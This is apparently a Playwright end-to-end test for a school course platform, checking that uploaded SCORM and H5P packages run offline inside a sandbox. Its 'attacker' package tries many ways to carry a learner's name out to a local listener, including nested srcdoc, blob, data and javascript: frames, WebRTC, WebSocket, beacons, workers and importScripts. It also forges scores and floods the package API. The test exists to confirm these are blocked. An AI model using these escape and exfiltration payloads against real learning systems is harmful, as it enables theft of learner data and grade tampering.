/** A course with a package: made by a school, gone through without a network, and closed off from everything else. */
import { randomUUID } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { OpenedCourse } from '#contract/courses/authoring.ts';
import type { PackageFacts } from '#contract/courses/parts.ts';
import { blankCourseLesson } from '#domain/courses/course-draft.ts';
import { createApiClient } from '../support/api-client.ts';
import { expect, test } from '../support/journey.ts';
import { h5pEntries, scormEntries, uploadPackage, zipOf } from '../support/package-files.ts';
import { takeFaults } from '../support/page-faults.ts';
import { demoPassword, Student } from '../support/student.ts';

/** The code of a document or worker inside a package: it carries the learner's name away by every way that it still has. */
function carrier(name: string, { address, port }: Pick<Listener, 'address' | 'port'>): string {
  const host = address.replace('http://', '');
  const servers = [
    { urls: `stun:127.0.0.1:${port}` },
    { urls: `turn:${host}?transport=tcp`, username: 'learner', credential: 'x' },
  ];
  return `(function () {
    function attempt(work) { try { Promise.resolve(work()).catch(function () {}); } catch (error) {} }
    if (typeof RTCPeerConnection === 'function') attempt(function () { parent.postMessage('calls of ${name}', '*'); });
    if (typeof WebTransport === 'function' && self.document) attempt(function () { parent.postMessage('transport of ${name}', '*'); });
    attempt(function () {
      var connection = new RTCPeerConnection({ iceServers: ${JSON.stringify(servers)} });
      connection.createDataChannel('a');
      return connection.createOffer().then(function (offer) { return connection.setLocalDescription(offer); });
    });
    attempt(function () { return fetch('${address}/${name}'); });
    attempt(function () { new WebSocket('ws://${host}/${name}'); });
    attempt(function () { return new WebTransport('https://${host}/${name}').ready; });
    attempt(function () { new Image().src = '${address}/${name}.png'; });
    attempt(function () { importScripts('${address}/${name}.js'); });
  })();`;
}

/** Frames and workers that a package makes, in the ways that browsers have for it. */
function insiders(listener: Listener): string {
  const markup = (name: string) => `<script>${carrier(name, listener)}</script>`;
  const asText = (text: string) => JSON.stringify(text).replaceAll('</', String.raw`<\/`);
  const inAttribute = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
  const page = (name: string) =>
    `<html xmlns="http://www.w3.org/1999/xhtml"><body><iframe srcdoc="${inAttribute(markup(name))}"/></body></html>`;
  return `<iframe srcdoc="${inAttribute(markup('markup'))}"></iframe><script>
  function frame(make) { var one = document.createElement('iframe'); make(one); document.body.append(one); return one; }
  attempt('srcdoc', function () { frame(function (one) { one.srcdoc = ${asText(markup('srcdoc'))}; }); });
  attempt('attribute', function () { frame(function (one) { one.setAttribute('srcDoc', ${asText(markup('attribute'))}); }); });
  attempt('node', function () {
    var node = document.createAttribute('srcdoc');
    node.value = ${asText(markup('node'))};
    frame(function (one) { one.setAttributeNode(node); });
  });
  attempt('html', function () { document.body.insertAdjacentHTML('beforeend', ${asText(`<iframe srcdoc="${inAttribute(markup('html'))}"></iframe>`)}); });
  attempt('inner', function () { frame(function (one) { one.srcdoc = ${asText(`<iframe srcdoc="${inAttribute(markup('inner'))}"></iframe>`)}; }); });
  attempt('loaded', function () {
    var request = new XMLHttpRequest();
    request.open('GET', URL.createObjectURL(new Blob([${asText(page('loaded'))}], { type: 'application/xhtml+xml' })));
    request.responseType = 'document';
    request.onload = function () { document.body.append(document.importNode(request.response.querySelector('iframe'), true)); };
    request.send();
  });
  attempt('policy', function () {
    var own = trustedTypes.createPolicy('own', { createHTML: function (html) { return html; } });
    frame(function (one) { one.srcdoc = own.createHTML(${asText(markup('policy'))}); });
  });
  attempt('blank', function () { return typeof frame(function (one) { one.src = 'about:blank'; }).contentWindow.RTCPeerConnection === 'function'; });
  attempt('blank document', function () { frame(function () {}).contentDocument.write(${asText(markup('blank'))}); return true; });
  attempt('script address', function () { frame(function (one) { one.src = 'javascript:' + ${asText(carrier('address', listener))}; }); });
  attempt('blob', function () {
    frame(function (one) { one.src = URL.createObjectURL(new Blob([${asText(markup('blob'))}], { type: 'text/html' })); });
  });
  attempt('data', function () { frame(function (one) { one.src = 'data:text/html,' + encodeURIComponent(${asText(markup('data'))}); }); });
  attempt('own worker', function () { new Worker(URL.createObjectURL(new Blob([${asText(carrier('worker', listener))}]))); });
  frame(function (one) { one.srcdoc = '<p>Plain</p><scr' + 'ipt>parent.postMessage("plain " + document.body.textContent, "*")</scr' + 'ipt>'; });
  </script>`;
}

/** Tells a score by the interface of the standard, and everything that it could reach beside. */
function attacker(listener: Listener): string {
  const foreign = listener.address;
  return `<!doctype html><title>Attack</title><link rel="stylesheet" href="${foreign}/style.css"><link rel="preconnect" href="${foreign}">
<img src="${foreign}/markup.png"><form id="f" action="${foreign}/form" method="post"><input name="a"></form><script>
  var reached = [];
  var plain = 'no plain frame';
  addEventListener('message', function (event) {
    if (typeof event.data !== 'string') return;
    if (event.data.indexOf('plain') === 0) plain = event.data;
    else reached.push(event.data);
  });
  function attempt(name, work) {
    try { Promise.resolve(work()).then(function (value) { if (value) reached.push(name); }, function () {}); } catch (error) {}
  }
  attempt('fetch', function () { return fetch('${foreign}/fetch').then(function () { return true; }); });
  attempt('own server', function () { return fetch('/api/profile').then(function (reply) { return reply.ok; }); });
  attempt('beacon', function () { navigator.sendBeacon('${foreign}/beacon', 'x'); });
  attempt('image', function () { new Image().src = '${foreign}/image.png'; });
  attempt('socket', function () { new WebSocket('${foreign}'.replace('http', 'ws')); });
  attempt('events', function () { new EventSource('${foreign}/events'); });
  attempt('worker', function () { new Worker(URL.createObjectURL(new Blob(["fetch('${foreign}/worker')"]))); });
  attempt('frame', function () { var frame = document.createElement('iframe'); frame.src = '${foreign}/frame'; document.body.append(frame); });
  attempt('nested', function () { var frame = document.createElement('iframe'); frame.srcdoc = '<img src=${foreign}/nested.png>'; document.body.append(frame); });
  attempt('form', function () { document.getElementById('f').submit(); });
  attempt('popup', function () { return window.open('${foreign}/popup') !== null; });
  attempt('parent', function () { return parent.document.title; });
  attempt('storage', function () { localStorage.setItem('a', 'b'); return true; });
  attempt('cookie', function () { document.cookie = 'a=b'; return document.cookie; });
  attempt('database', function () { return new Promise(function (yes, no) { var open = indexedDB.open('x'); open.onsuccess = function () { yes(true); }; open.onerror = no; }); });
  attempt('caches', function () { return caches.keys().then(function () { return true; }); });
  attempt('service worker', function () { return navigator.serviceWorker.register('/sw.js').then(function () { return true; }); });
  attempt('calls', function () { return typeof RTCPeerConnection === 'function'; });
  for (var index = 0; index < 50; index += 1) alert('x');
  attempt('top', function () { top.location.href = '${foreign}/top'; });
  API.LMSInitialize('');
  var known = API.LMSGetValue('cmi.core.student_id') + ' ' + API.LMSGetValue('cmi.core.student_name');
  var before = API.LMSGetValue('cmi.core.lesson_location');
  addEventListener('leave', function () { attempt('leave', function () { location.href = '${foreign}/leave'; }); });
  // In the last moment: nothing is left for it to be passed on later.
  addEventListener('pagehide', function () { API.LMSSetValue('cmi.core.lesson_location', 'left'); });
  for (var tick = 0; tick < 300; tick += 1) API.LMSSetValue('cmi.core.lesson_location', String(tick));
  API.LMSSetValue('cmi.suspend_data', new Array(10000000).join('x'));
  API.LMSSetValue('cmi.core.score.raw', '150');
  setTimeout(function () {
    API.LMSSetValue('cmi.core.score.raw', String(Math.max(0, 90 - 10 * reached.length)));
    API.LMSSetValue('cmi.comments', reached.join(', '));
    API.LMSSetValue('cmi.core.lesson_status', 'completed');
    API.LMSFinish('');
    document.body.append('Reached: ' + (reached.join(', ') || 'nothing') + '. Before: ' + before + '. Known as ' + known + '. There is ' + plain);
  }, 1500);
</script>${insiders(listener)}`;
}

const stopped = /Content Security Policy|Trusted|Unsafe attempt|sandboxed|TypeError: Failed to fetch|WebSocket|EventSource/;

interface Listener {
  address: string;
  /** For datagrams: what asks a STUN server. */
  port: number;
  asked: string[];
  stop: () => void;
}

async function listen(): Promise<Listener> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('x');
  });
  server.on('connection', () => asked.push('connection'));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const datagrams = createSocket('udp4');
  datagrams.on('message', () => asked.push('datagram'));
  await new Promise<void>((resolve) => datagrams.bind(0, '127.0.0.1', resolve));
  const stop = (): void => {
    server.close();
    datagrams.close();
  };
  const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { address, port: datagrams.address().port, asked, stop };
}

test('a school makes a course with a package, and a teacher passes it without a network', async ({ school, browser }) => {
  const foreign = await listen();
  const director = await Student.signIn(browser, school, 'director1');
  const { page: office } = director;
  await director.goes('/control/courses');
  await office.getByTestId('add').click();
  const dialog = office.getByTestId('course-create');
  await dialog.locator('input[name="kz"]').fill('Қауіпсіздік');
  await dialog.locator('input[name="ru"]').fill('Безопасность');
  await dialog.locator('button[type="submit"]').click();
  await office.getByTestId('add-lesson').click();
  const lesson = office.getByTestId('edited-lesson');
  await lesson.locator('input[lang="kk"]').fill('Сабақ');
  await lesson.locator('input[lang="ru"]').fill('Урок');
  await lesson.getByTestId('lesson-end').selectOption('package');
  const buffer = zipOf(scormEntries({}, attacker(foreign)));
  await lesson.locator('input[type="file"]').setInputFiles({ name: 'attack.zip', mimeType: 'application/zip', buffer });
  await office.getByTestId('licence').fill('CC BY');
  await office.getByTestId('take-package').click();
  await expect(lesson.getByTestId('package-facts')).toContainText('SCORM 1.2');
  await office.getByTestId('publish').click();
  await expect(office.getByTestId('course-state')).toHaveText('Жарияланған');

  const teacher = await Student.signIn(browser, school, school.nextTeacher());
  const { page } = teacher;
  await teacher.goes('/catalog/my-courses');
  await page.getByTestId('course-card').getByRole('link', { name: 'Қауіпсіздік' }).click();
  await teacher.isReadyForOffline();
  await page.getByTestId('lesson-row').getByRole('link').click();
  await page.getByTestId('start-lesson').click();
  await page.getByTestId('course-language').getByRole('button', { name: 'Русский' }).click();
  const frame = page.frameLocator('[data-testid="package-frame"]');
  await expect(frame.locator('body')).toContainText('Reached: nothing', { timeout: 20_000 });
  // It knows a made-up name, and its own frames are not disturbed.
  await expect(frame.locator('body')).toContainText(/Known as (L-[0-9a-f]{16}) \1\. There is plain Plain/);
  await frame.locator('body').dispatchEvent('leave', { bubbles: true });
  await expect(frame.locator('body')).toBeEmpty();
  await page.getByTestId('hold-package').click();
  await expect(page.getByTestId('package-held')).toBeVisible();
  await expect(page.getByTestId('lesson-finished')).toBeVisible();
  await expect(page.getByTestId('command-state')).toHaveAttribute('data-place', 'server');
  expect(page.url()).toContain('/catalog/my-courses/');

  // Again, without a network: what was stored is there, and it goes on.
  await teacher.network.dies();
  await page.reload();
  await expect(frame.locator('body')).toContainText('Reached: nothing');
  await expect(page.getByTestId('command-state')).toHaveAttribute('data-place', 'device');
  await page.getByRole('link', { name: 'Барлық сабақтар' }).click();
  await page.getByTestId('lesson-row').getByRole('link').click();
  await expect(frame.locator('body')).toContainText('Before: left');
  await teacher.network.returns();
  await expect(page.getByTestId('command-state')).toHaveAttribute('data-place', 'server');

  await office.getByRole('link', { name: 'Кім өтіп жатыр' }).click();
  await expect(office.getByTestId('course-learners')).toContainText('90');
  // Closed windows log nothing more: what the last frame tried may be logged late.
  await teacher.leaves();
  await director.leaves();
  expect(foreign.asked).toEqual([]);
  foreign.stop();
  // The browser's own words for each attack that it stopped, and for nothing else.
  expect(takeFaults().filter((fault) => !stopped.test(fault))).toEqual([]);
});

test('an H5P content plays without a network, goes on where it was, and tells its points', async ({ school, browser }) => {
  const author = createApiClient(school.url);
  await author.signIn('director1', demoPassword);
  const uploadId = await uploadPackage(author, school.url, zipOf(h5pEntries()));
  const taken = await author.call<PackageFacts>('POST', '/api/control/course-packages', { uploadId, licence: 'CC BY 4.0' });
  const title = { kz: 'Сөз', ru: 'Слово' };
  const lessons = [{ ...blankCourseLesson(randomUUID()), title, package: taken.data.name }];
  const draft = { title, about: title, cover: null, audience: 'teachers', grades: [], lessons };
  const { data: course } = await author.call<OpenedCourse>('POST', '/api/control/courses', { creationId: randomUUID(), draft });
  await author.call('POST', `/api/control/courses/${course.id}/publish`, { revision: course.revision });

  const teacher = await Student.signIn(browser, school, school.nextTeacher());
  const { page } = teacher;
  await teacher.goes(`/catalog/my-courses/${course.id}`);
  await teacher.isReadyForOffline();
  await page.getByTestId('lesson-row').getByRole('link').click();
  await page.getByTestId('start-lesson').click();
  await page.getByTestId('course-language').getByRole('button', { name: 'Русский' }).click();
  const frame = page.frameLocator('[data-testid="package-frame"]');
  await frame.locator('.word').fill('от');
  await page.getByTestId('hold-package').click();
  await expect(page.getByTestId('package-held')).toBeVisible();
  await frame.locator('button').click();
  await expect(frame.locator('.echo')).toHaveText('H5P.Echo 1.2: от');
  await expect(frame.locator('.echo')).toHaveCSS('background-image', /^url\("blob:/);
  await expect(page.getByTestId('lesson-finished')).toBeVisible();
  await expect(page.getByTestId('command-state')).toHaveAttribute('data-place', 'server');

  // Data that the server acknowledged is on the device, too, whenever the network goes.
  await teacher.network.dies();
  await page.reload();
  await expect(frame.locator('.word')).toHaveValue('от');
  await frame.locator('.word').fill('су');
  await frame.locator('button').click();
  await expect(page.getByTestId('command-state')).toHaveAttribute('data-place', 'device');
  await teacher.network.returns();
  const reported = () =>
    school.examiner.sql`select status, score from course_package_state s join course_lesson l on l.id = s.lesson_id
    where l.course_id = ${course.id}`.then((rows) => [...rows]);
  await expect.poll(reported).toEqual([{ status: 'passed', score: 100 }]);
});
